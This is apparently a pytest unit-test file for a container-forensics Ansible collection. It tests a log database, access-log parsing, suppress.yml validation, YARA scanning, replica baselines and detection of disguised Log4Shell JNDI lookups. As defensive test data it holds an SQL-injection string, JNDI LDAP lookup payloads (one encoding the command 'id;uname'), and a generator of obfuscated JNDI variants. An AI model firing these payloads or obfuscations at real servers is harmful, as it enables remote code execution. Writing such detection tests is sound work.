# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""case.sqlite, suppress.yml, YARA, baselines, and how a disguised lookup is searched for."""

from __future__ import annotations

import io
import json
import re
import shlex
import stat
import tarfile
from contextlib import closing
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansible_collections.cordon.docker.plugins.module_utils._errors import InvalidOption
from ansible_collections.cordon.docker.plugins.module_utils._host.logpatterns import Pattern
from ansible_collections.cordon.docker.plugins.plugin_utils._analysis import (
    baseline,
    database,
    jndi,
    suppress,
    weblog,
    yara,
)
from ansible_collections.cordon.docker.plugins.plugin_utils._case.case import Case
from ansible_collections.cordon.docker.plugins.plugin_utils._case_products import Options, write_products
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    add_container,
    file,
    findings_of,
    inspect,
    listener,
    log,
    process,
)

HOSTILE = "'); DROP TABLE log; --\x00\ud800\x1b[31m"


def test_the_database_is_private_repeatable_and_holds_hostile_text_as_text(tmp_path: Path) -> None:
    add_container(tmp_path, {"logs/tail.jsonl": json.dumps(log(HOSTILE)[0]).encode() + b"\n"})
    path = database.build(tmp_path)
    first = path.read_bytes()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert database.build(tmp_path).read_bytes() == first
    with closing(database.opened(path)) as opened:
        assert opened.execute("SELECT host, container, message, line FROM logs").fetchall() == [
            ("web1", "shop", "'); DROP TABLE log; --\\x00\\ud800\x1b[31m", 1)
        ]


def test_what_two_items_have_comes_once_and_a_disguise_stands_beside(tmp_path: Path) -> None:
    lines = log("one", "agent=${${::-j}ndi:ldap://10.0.0.1/a}")
    add_container(tmp_path, {"logs/tail.jsonl": lines, "logs/hits.jsonl": lines[1:]})
    with closing(database.opened(database.build(tmp_path))) as opened:
        rows = opened.execute("SELECT message, plain FROM logs").fetchall()
    assert rows == [
        ("one", None),
        ("agent=${${::-j}ndi:ldap://10.0.0.1/a}", "agent=${jndi:ldap://10.0.0.1/a}"),
    ]


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (
            '1.2.3.4 - bob [01/Mar/2026:12:00:00 +0000] "GET /a?b=c HTTP/1.1" 200 5',
            ("1.2.3.4", "GET", "/a", "b=c", 200),
        ),
        (
            'shop:80 1.2.3.4 - - [01/Mar/2026:12:00:00 +0000] "POST /a HTTP/1.1" 500 - "-" "x"',
            ("1.2.3.4", "POST", "/a", None, 500),
        ),
        ('1.2.3.4 - - [01/Mar/2026 12:00:00] "GET /a HTTP/1.1" 404 -', ("1.2.3.4", "GET", "/a", None, 404)),
        (
            r'1.2.3.4 - - [01/Mar/2026:12:00:00 +0000] "\x16\x03\x01" 400 5 "-" "-"',
            ("1.2.3.4", None, "\x16\x03\x01", None, 400),
        ),
        ('INFO:     1.2.3.4:5000 - "GET /a?x HTTP/1.1" 200 OK', ("1.2.3.4", "GET", "/a", "x", 200)),
        (
            "[Sun Mar  1 12:00:00 2026] 1.2.3.4:5000 [200]: GET /a.php?c=id",
            ("1.2.3.4", "GET", "/a.php", "c=id", 200),
        ),
        (
            '{"remote_addr":"1.2.3.4","request_method":"GET","request_uri":"/a?b","status":200}',
            ("1.2.3.4", "GET", "/a", "b", 200),
        ),
        (
            '{"request":{"remote_ip":"1.2.3.4","method":"GET","uri":"/a"},"status":200}',
            ("1.2.3.4", "GET", "/a", None, 200),
        ),
    ],
)
def test_access_logs_are_parsed(line: str, told: tuple[object, ...]) -> None:
    found = weblog.parse_request(line)
    assert found is not None
    assert (found.client, found.method, found.stem, found.query, found.status) == told


@given(st.text(max_size=200))
def test_no_line_stops_the_parser(line: str) -> None:
    weblog.parse_request(line)
    weblog.parse_request(f'1.1.1.1 - - [01/Mar/2026:12:00:00 +0000] "{line}" 200 5 "{line}" "{line}"')
    weblog.parse_request("{" + line)


PRIVILEGED = {"inspect.json": inspect(host_config={"Privileged": True})}


def allowed(tmp_path: Path, text: str) -> list[suppress.Entry]:
    (tmp_path / "suppress.yml").write_text(text)
    return suppress.load(tmp_path)


def test_what_is_allowed_stays_is_marked_and_counted(tmp_path: Path) -> None:
    found = findings_of(tmp_path, PRIVILEGED)
    entries = allowed(tmp_path, "suppress: [{rule: 'privi*', container: shop, reason: Tested}]")
    applied = suppress.apply(found, entries)
    assert applied.told == ["1 finding suppressed by suppress.yml"]
    assert applied.findings[-1].to_json()["suppressed"] == {"reason": "Tested", "by": "suppress.yml, entry 1"}
    products = write_products(Case(tmp_path), Options())
    assert products.active == []
    assert "suppressed" in (tmp_path / "findings.jsonl").read_text()


def test_an_entry_past_its_day_suppresses_nothing_and_is_told(tmp_path: Path) -> None:
    found = findings_of(tmp_path, PRIVILEGED)
    entries = allowed(tmp_path, "suppress: [{rule: privileged, reason: Tested, until: 2026-01-31}]")
    assert suppress.apply(found, entries, date(2026, 1, 31)).counts
    late = suppress.apply(found, entries, date(2026, 2, 1))
    assert late.told == ["suppress.yml, entry 1 is past its day, and suppresses nothing"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("[", "is no YAML"),
        ("- rule: x", "has to be a mapping with one key, suppress"),
        ("suppress: [x]", "entry 1 is of type str"),
        ("suppress: [{rule: x}]", "has no reason"),
        ("suppress: [{reason: x}]", "would suppress everything"),
        ("suppress: [{rule: '*', reason: x}]", "would suppress everything"),
        ("suppress: [{rule: 1, reason: x}]", "rule is of type int"),
        ("suppress: [{rull: x, reason: x}]", "has rull, which is not known"),
        ("suppress: [{match: '.*', reason: x}]", "would fit everything"),
        ("suppress: [{match: '(abc', reason: x}]", "no regular expression"),
        ("suppress: [{rule: x, reason: x, until: soon}]", "write a day"),
    ],
)
def test_mistakes_in_suppress_are_told(tmp_path: Path, text: str, told: str) -> None:
    with pytest.raises(InvalidOption, match=re.escape(told)):
        allowed(tmp_path, text)


RULES = 'rule shell { meta: severity = "critical" description = "Runs a request" strings: $a = "evil(" condition: $a }'


def test_yara_looks_into_files_archives_and_heads(tmp_path: Path) -> None:
    rules, case = tmp_path / "r", tmp_path / "case"
    rules.mkdir()
    (rules / "a.yar").write_text(RULES)
    (rules / "b.yar").write_text("rule broken { condition: nope }")
    add_container(case, {"layer.jsonl": [file("/srv/x.php", code="php", head="<?php evil($_GET);")]})
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        member = tarfile.TarInfo("srv/y.php")
        member.size = 5
        archive.addfile(member, io.BytesIO(b"evil("))
    items = {
        "layer.tar": packed.getvalue(),
        "volumes.tar": b"\xff" * 600,
        "processes/9": b"",
        "logs/x": b"evil(",
    }
    folder = add_container(
        case,
        {"layer.tar": items["layer.tar"], "volumes.tar": items["volumes.tar"]},
        bag="20260301T130000Z-preserve",
    )
    (folder / "processes" / "9").mkdir(parents=True)
    (folder / "processes" / "9" / "executable").write_bytes(b"..evil(..")
    outcome = yara.run(case, [rules])
    assert [finding.sentence for finding in outcome.findings] == [
        "YARA rule shell matches /srv/x.php and 2 more: Runs a request."
    ]
    assert (outcome.findings[0].severity, outcome.counts["matched"]) == ("critical", 3)
    assert len(outcome.rows) == 2  # the broken rule, the broken archive


def replica(case: Path, number: int, **more: object) -> None:
    rows = [process(100, 1, "/usr/bin/java", "java")]
    extra = [process(101, 100, "/usr/bin/bash", "bash")] if more.get("shell") else []
    add_container(case, {"processes.jsonl": rows + extra}, host=f"h{number}", container=f"{number:012x}")


def test_one_replica_that_differs_is_a_finding(tmp_path: Path) -> None:
    for number in range(12):
        replica(tmp_path, number, shell=number == 7)
    found = baseline.evaluate(tmp_path)
    assert [(finding.host, finding.rule, finding.severity) for finding in found] == [
        ("h7", "odd-replica", "medium")
    ]
    assert found[0].sentence == (
        "It runs /usr/bin/bash, as none of the other 11 containers of this image and command does."
    )


def test_a_port_that_nobody_declared_is_a_finding(tmp_path: Path) -> None:
    config = {"Config": {"Image": "x", "ExposedPorts": {"8080/tcp": {}}}}
    rows = [process(100, 1, "/usr/bin/java", "java")]
    add_container(
        tmp_path,
        {
            "inspect.json": inspect(**config),
            "processes.jsonl": rows,
            "sockets.jsonl": [listener(100, 8080), listener(100, 4445)],
        },
    )
    assert [finding.sentence for finding in baseline.evaluate(tmp_path)] == [
        "java listens on port 4445, and the image and the start declare only 8080/tcp."
    ]


_DISGUISES = st.sampled_from(
    ["{0}", "${{lower:{0}}}", "${{upper:{0}}}", "${{::-{0}}}", "${{env:NaN:-{0}}}", "${{sys:x:-{0}}}",
     "${{date:'{0}'}}", "${{${{::-lower}}:{0}}}"]
)  # fmt: skip
_WRITTEN = st.sampled_from(
    [
        lambda text: text,
        lambda text: "".join(f"%{ord(char):02x}" for char in text),
        lambda text: "".join(f"%25{ord(char):02X}" for char in text),
        lambda text: "".join(f"\\u{ord(char):04x}" for char in text),
        lambda text: "".join(f"%u{ord(char):04x}" for char in text),
        lambda text: "".join(f"&#{ord(char)};" for char in text),
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_DISGUISES, min_size=4, max_size=4), _WRITTEN)
def test_disguises_are_undone_and_the_pasted_search_finds_them(disguises: list[str], written: object) -> None:
    word = "".join(disguise.format(char) for disguise, char in zip(disguises, "jndi", strict=True))
    line = written("${" + word + ":ldap://10.0.0.1:389/a}")  # type: ignore[operator]
    assert [(found.server, found.port) for found in jndi.find_lookups(line)] == [("10.0.0.1", 389)]
    assert re.search(jndi.SEARCH, line, re.IGNORECASE)


def test_a_command_in_the_path_is_shown_and_the_hint_can_be_pasted(tmp_path: Path) -> None:
    lines = log(
        "${jndi:ldap://10.0.0.1/Basic/Command/Base64/aWQ7dW5hbWU=}", "${${lower:j}ndi:ldap://10.0.0.1/a}"
    )
    found = findings_of(tmp_path, {"logs/tail.jsonl": lines})[0]
    assert "to run `id;uname`" in found.sentence
    assert "such as `${jndi:ldap://10.0.0.1/a}`" in found.sentence
    arguments = shlex.split(found.next)[-1]
    pattern = arguments.partition("regex=")[2].partition(" ")[0]
    assert not set(pattern) & set(",'\"\\ ")  # the module's option is a list, and the shell has its own mind
    assert all(Pattern.regex(pattern, True).matches(row["line"]) for row in lines)
